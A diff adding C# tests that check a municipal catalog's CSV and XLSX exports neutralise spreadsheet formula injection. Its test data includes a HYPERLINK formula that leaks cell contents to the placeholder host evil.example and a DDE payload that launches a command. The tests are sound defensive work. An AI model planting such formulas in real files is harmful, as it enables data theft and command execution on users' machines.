@@ -166,6 +166,61 @@ public abstract class ExportSuite(TestDatabase database)
     }
 
     private static DocumentFormat.OpenXml.Packaging.SpreadsheetDocument Xlsx(Stream stream) => DocumentFormat.OpenXml.Packaging.SpreadsheetDocument.Open(stream, false);
+
+    private static readonly string[] FormulaNames = ["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Ver\")", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"];
+
+    private async Task<string> CatalogOfFormulasAsync()
+    {
+        await Database.SeedAsync();
+        var (ine, _) = await FreshMunicipalityAsync(Database);
+        var report = await Importer(Database).ImportAsync(Admin, ine, Csv(["localName", .. FormulaNames.Select(Quote)]), CatalogFormat.Csv, dryRun: false);
+        Assert.True(report.Committed, report.Describe());
+        return ine;
+    }
+
+    [SkippableFact]
+    public async Task A_CSV_export_of_names_starting_like_formulas_opens_as_text()
+    {
+        var ine = await CatalogOfFormulasAsync();
+
+        var text = Encoding.UTF8.GetString((await ExportAsync(ine, CatalogFormat.Csv)).ToArray()[3..]);
+
+        // OWASP's advice: a leading single quote makes a spreadsheet show the cell as text instead of running it.
+        var names = text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).Select(line => line.Split(';')[1]).ToList();
+        Assert.All(names, name => Assert.True(name.StartsWith('\'') || name.StartsWith("\"'", StringComparison.Ordinal), name));
+        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Ver\"\")\"", text, StringComparison.Ordinal);
+    }
+
+    [SkippableFact]
+    public async Task A_CSV_export_of_names_starting_like_formulas_imports_back_unchanged()
+    {
+        var ine = await CatalogOfFormulasAsync();
+
+        var report = await Importer(Database).ImportAsync(Admin, ine, await ExportAsync(ine, CatalogFormat.Csv), CatalogFormat.Csv, dryRun: true);
+
+        Assert.All(report.Rows, row => Assert.Equal(ImportOutcome.Unchanged, row.Outcome));
+    }
+
+    [SkippableFact]
+    public async Task An_XLSX_export_writes_formula_like_names_as_text_and_survives_a_stored_control_character()
+    {
+        var ine = await CatalogOfFormulasAsync();
+        await using (var db = Database.CreateContext())
+        {
+            // Stored before texts were checked: the export must still answer.
+            await db.CityProcedures.Where(p => p.MunicipalityIneCode == ine && p.LocalName == "-2+3").ExecuteUpdateAsync(s => s.SetProperty(p => p.LocalName, "Campana\u0007\u001B"));
+        }
+
+        using var output = await ExportAsync(ine, CatalogFormat.Xlsx);
+
+        using var document = DocumentFormat.OpenXml.Packaging.SpreadsheetDocument.Open(output, false);
+        var cells = document.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<DocumentFormat.OpenXml.Spreadsheet.Cell>().ToList();
+        Assert.DoesNotContain(cells, c => c.CellFormula is not null);
+        var texts = cells.Where(c => c.CellReference!.Value!.StartsWith('B')).Select(c => c.InnerText).ToList();
+        Assert.Contains(FormulaNames[0], texts);
+        Assert.Contains("Campana\uFFFD\uFFFD", texts);
+        Assert.All(cells, c => Assert.Equal(DocumentFormat.OpenXml.Spreadsheet.CellValues.InlineString, c.DataType!.Value));
+    }
 }
 
 public sealed class SqliteExportTests(SqliteTestDatabase database) : ExportSuite(database), IClassFixture<SqliteTestDatabase>;
